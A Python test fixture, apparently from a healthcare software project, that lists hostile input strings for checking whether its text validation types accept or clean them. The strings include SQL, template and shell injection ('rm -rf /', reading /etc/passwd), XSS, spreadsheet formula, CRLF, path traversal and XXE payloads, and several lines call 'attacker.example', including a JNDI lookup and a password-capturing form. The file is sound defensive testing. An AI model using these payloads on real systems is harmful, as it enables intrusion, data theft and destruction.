"""Texts that are commands to a database, shell, browser, spreadsheet, calendar or log, or that look like other text."""

import json
from typing import Any

from pydantic import TypeAdapter, ValidationError

from careplus_contracts.emergency import EmergencyReason
from careplus_contracts.values import Line

TEXTS: dict[str, str] = {
    # SQL
    "sql quote": "O'Brien",
    "sql drop": "Robert'); DROP TABLE account;--",
    "sql or": "' OR '1'='1",
    "sql union": '" UNION SELECT password_hash FROM account --',
    "sql comment": "admin'/*",
    "sql stacked": "1; UPDATE account SET role='admin'",
    "sql percent": "%' ESCAPE '\\",
    "like wildcards": "100%_sure\\",
    "sql backslash": "\\' OR 1=1 #",
    "bind names": ":name ?1 $1 @x %(name)s %s {0} {name}",
    # templates and formats
    "jinja": "{{ 7*7 }}{% import 'os' as os %}{{ config }}",
    "dollar": "${7*7} ${jndi:ldap://attacker.example/a} #{7*7}",
    "erb": "<%= `id` %> <?php system('id'); ?>",
    "python format": "{0.__class__.__mro__} %n%n%x",
    "mustache": "{{constructor.constructor('alert(1)')()}}",
    # shells
    "shell": "; rm -rf / #",
    "shell substitution": "$(touch /tmp/owned) `touch /tmp/owned`",
    "shell pipe": "| cat /etc/passwd && echo owned",
    # browsers
    "script": "<script>alert(1)</script>",
    "closing script": "</script><script>alert(document.domain)</script>",
    "img": '"><img src=x onerror=alert(1)>',
    "svg": "<svg/onload=alert(1)>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "iframe": '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "attribute": "' onmouseover='alert(1)' x='",
    "address": "javascript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "entities": "&lt;b&gt; &#x3C;script&#x3E; &amp;amp;",
    "title end": "</title></textarea></style><img src=x onerror=alert(1)>",
    "style": "<style>@import'//attacker.example'</style><link rel=stylesheet href=//attacker.example>",
    "form": '<form action="//attacker.example"><input name=password autofocus>',
    "base": '<base href="//attacker.example/"><meta http-equiv=refresh content="0;url=//attacker.example">',
    "markdown": "[click](javascript:alert(1)) ![x](//attacker.example/x.png)",
    "html comment": "<!--<img src='--><img src=x onerror=alert(1)//'>",
    # spreadsheets
    "formula": '=HYPERLINK("//attacker.example","x")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula in a cell": '","=1+1","',
    # headers, logs, calendars: lines where one was expected
    "crlf": "a\r\nSet-Cookie: admin=1\r\n\r\n<html>",
    "lf": "a\nb",
    "cr": "a\rb",
    "log line": 'ok\n{"event": "request_finished", "status": 200, "path": "/forged"}',
    "log prefix": 'ok\ngateway      | {"event": "forged"}',
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;owned\x07",
    "backspace": "abc\x08\x08\x08xyz\x7f",
    "mail header": "Pia\r\nBcc: everybody@attacker.example",
    "ical property": "Visit\r\nATTENDEE:mailto:everybody@attacker.example",
    "ical end": "Visit\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
    "ical folding": "Visit\r\n ATTENDEE:folded",
    "ical escapes": 'a\\nATTENDEE:x\\, b\\; c; d, e: f\\\\n "g"',
    "next line": "a\x85ATTENDEE:x\u2028END:VEVENT\u2029BEGIN:VALARM",
    "vertical": "a\x0bb\x0cc\x1cd\x1de\x1ef",
    # directories, files, documents
    "ldap": "*)(uid=*))(|(uid=*",
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\..\\windows\\win.ini",
    "encoded path": "%2e%2e%2f%2e%2e%2f%00",
    "file address": "file:///etc/passwd",
    "entity": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "json in text": '{"role": "admin", "__proto__": {"admin": true}}',
    "json end": '"}, "role": "admin", "x": {"y": "',
    "yaml": "!!python/object/apply:os.system ['id']",
    # text that looks like other text
    "bidi override": "user\u202egnp.exe\u202c",
    "bidi isolate": "\u2066admin\u2069 \u200f\u061c",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u064a\u0636",
    "confusables": "\u0430dm\u0456n \uff41\uff44\uff4d\uff49\uff4e",
    "zero width": "ad\u200bm\u200ci\u200dn\u2060\ufeff.",
    "combining": "e\u0301 \u00e9 A\u030a \u00c5 \u1e9b\u0323",
    "zalgo": "Z" + "\u0300\u0316\u0330" * 30,
    "hangul": "\u1112\u1161\u11ab \ud55c",
    "four bytes": "\U0001d54f\U00020bb7\U0001f600",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f44d\U0001f3fd",
    "case": "\u0130I\u0131i \u00df\u1e9e \ufb01 \u03a3\u03c2\u03c3",
    "not characters": "\ufffe\uffff\U0010ffff\ufffd",
    "private use": "\ue000\uf8ff\U000f0000",
    "spaces outside": "  x\u3000\u00a0",
    # words that programs parse as other types
    "null": "null",
    "numbers": "1e309",
    "minus zero": "-0",
    "true": "true",
    "long": "W" * 200,
    "very long": "<b>" * 160,
    "quotes": "'\"`\u00b4\u2018\u2019\u201c\u201d",
}
"""Without NUL and lone surrogates, which every text refuses: tests/openapi tries them."""


def accepts(kind: Any, text: str) -> bool:
    """Return whether a value of this type may be this text."""
    try:
        TypeAdapter(kind).validate_json(json.dumps(text), strict=True)
    except ValidationError:
        return False
    return True


def stored(kind: Any, text: str) -> str:
    """Return the text as the contract keeps it: lines lose invisible characters, other text stays as it is."""
    kept: str = TypeAdapter(kind).validate_python(text, strict=True)
    return kept


HOSTILE = list(TEXTS.values())
LINES = [text for text in HOSTILE if accepts(Line, text)]

EMERGENCY_REASONS = [
    reason for reason in (f"{text} because medication is unknown" for text in HOSTILE) if accepts(EmergencyReason, reason)
]
"""Reasons of an emergency access, which needs a few words."""
